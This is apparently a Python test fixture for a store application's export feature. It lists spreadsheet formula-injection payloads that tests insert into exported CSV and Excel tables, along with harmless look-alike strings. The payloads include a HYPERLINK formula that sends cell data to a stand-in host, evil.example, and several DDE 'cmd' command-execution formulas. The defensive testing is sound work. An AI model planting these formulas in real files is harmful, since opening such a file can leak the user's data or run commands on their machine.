"""Formula cells: text that a spreadsheet runs when a CSV or Excel file is opened (OWASP's CSV injection).

Each is something a person can put into the store unsigned-in or as any role: a user name typed at
sign-in (it lands in the audit log), a file name (History, batch results), a job title. The tests
(tests/test_exports.py) put every one into each exportable table and open the files.
"""
from __future__ import annotations

HOSTILE = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
)
# Text that looks like a formula's neighbour but is none: it is written unchanged.
HARMLESS = ("plain.png", " =1+1", "a=b", "1-2", "", "ünïcode ✓")

